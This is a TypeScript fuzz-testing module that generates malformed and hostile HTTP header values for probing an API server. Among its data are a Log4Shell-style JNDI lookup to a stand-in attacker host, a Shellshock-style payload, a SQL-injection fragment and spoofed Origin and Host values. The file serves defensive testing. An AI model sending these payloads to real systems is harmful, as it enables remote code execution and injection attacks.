import fc from 'fast-check';
import type { Operation } from '../support/openapi.js';

type Header = readonly [name: string, value: string];

/** Hostile values for headers that we or Node parse. */
export const HEADERS: Readonly<Record<string, readonly string[]>> = {
  // Few keys, so that the same one is repeated with the same request and with others.
  'Idempotency-Key': [
    ...['fuzz-1', 'fuzz-2', '"fuzz-1"', '"with space"', '"', '""', '" ', 'a,b', 'é', 'wait', '__proto__'],
    ...['a'.repeat(255), 'a'.repeat(256), '\t'],
  ],
  // Waits are short, or the client disconnects.
  Prefer: [
    'wait=0',
    'wait="0"',
    'wait=0, wait=1',
    'wait=-1',
    'wait=1e3',
    'wait',
    'wait=99999999',
    'respond-async',
  ],
  'Last-Event-ID': [
    '0',
    '1',
    '999999999999999',
    '1-1795507200009',
    '-1',
    '0-0',
    'NaN',
    '1'.repeat(16),
    'é',
    '0\t',
  ],
  Authorization: [
    ...[
      'Bearer',
      'Bearer ',
      'Bearer x',
      'bearer x',
      'Bearer a b',
      'Basic',
      'Basic !!',
      'Basic YWRtaW46',
      'é',
    ],
    ...['Bearer ' + 'a'.repeat(4_000), 'Digest username="admin"', 'Bearer \xff\xfe', 'Bearer null'],
  ],
  Cookie: ['session=', 'a=b; a=c', '=', '__proto__=x', 'celeriac=' + 'a'.repeat(3_000), 'x=%', 'x="'],
  'If-None-Match': ['*', '"a"', 'W/"a"', 'a', '"'],
  'If-Modified-Since': ['Tue, 24 Nov 2026 08:00:00 GMT', 'nonsense', '0'],
  'If-Match': ['*', '"a"'],
  'If-Range': ['"a"', 'Tue, 24 Nov 2026 08:00:00 GMT'],
  Range: [
    ...[
      'bytes=0-',
      'bytes=0-0',
      'bytes=-1',
      'bytes=5-1',
      'bytes=0-0,2-3',
      'bytes=999999999999-',
      'bytes=',
      'lines=1-2',
    ],
    'bytes=' + '0-1,'.repeat(500),
  ],
  Accept: ['text/html', 'application/xml', '*/*;q=0', 'nonsense', '', 'text/event-stream'],
  'Accept-Encoding': ['gzip', 'br;q=1', '*;q=0', 'identity;q=0'],
  Origin: ['https://evil.example', 'null', 'http://localhost:8000'],
  'Access-Control-Request-Method': ['DELETE'],
  'Sec-Fetch-Site': ['cross-site', 'none', 'nonsense'],
  Host: ['evil.example', 'localhost:0', '[::1]', 'a b', ''],
  'X-Forwarded-For': ['127.0.0.1', '8.8.8.8, 1.1.1.1', 'nonsense', '::1', "' OR 1=1"],
  'X-Forwarded-Host': ['evil.example'],
  'X-Forwarded-Proto': ['https', 'nonsense'],
  'X-HTTP-Method-Override': ['DELETE', 'GET'],
  'X-Request-Id': ['a', 'a'.repeat(101), 'a b', '${jndi:ldap://evil.example/a}', '\x80'],
  'User-Agent': ['', 'a'.repeat(2_000), '\x80\x9b31m', '() { :; }; echo'],
  Expect: ['100-continue', 'nonsense'],
  Upgrade: ['websocket', 'h2c'],
  Connection: ['close', 'keep-alive, X-Request-Id', 'upgrade'],
  'Transfer-Encoding': ['chunked'],
  Traceparent: ['00-00000000000000000000000000000000-0000000000000000-00', 'nonsense'],
};

const anyHeader: fc.Arbitrary<Header> = fc.oneof(
  {
    weight: 12,
    arbitrary: fc
      .constantFrom(...Object.entries(HEADERS))
      .chain(([name, values]) => fc.tuple(fc.constant(name), fc.constantFrom(...values))),
  },
  // Only bytes allowed in a header; raw requests test the others.
  {
    weight: 1,
    arbitrary: fc.tuple(
      fc.stringMatching(/^[A-Za-z][A-Za-z-]{0,15}$/).map((name) => `X-${name}`),
      fc
        .string({ unit: fc.integer({ min: 0x20, max: 0xff }).map((code) => String.fromCharCode(code)) })
        .map(legal),
    ),
  },
);

function legal(value: string): string {
  return value.replaceAll('\x7f', '');
}

/** @param isWild true to add headers that the operation does not declare */
export function headersFor({ parameters = [] }: Operation, isWild: boolean): fc.Arbitrary<Header[]> {
  const own = parameters
    .filter(({ in: place, name }) => place === 'header' && name in HEADERS)
    .map(({ name }) =>
      fc.oneof(
        { weight: 3, arbitrary: fc.constant<Header[]>([]) },
        {
          weight: 1,
          arbitrary: fc.constantFrom(...(HEADERS[name] ?? [])).map((value): Header[] => [[name, value]]),
        },
      ),
    );
  const others = isWild ? fc.array(anyHeader, { maxLength: 3 }) : fc.constant<Header[]>([]);
  return fc.tuple(others, ...own).map((groups) => groups.flat());
}
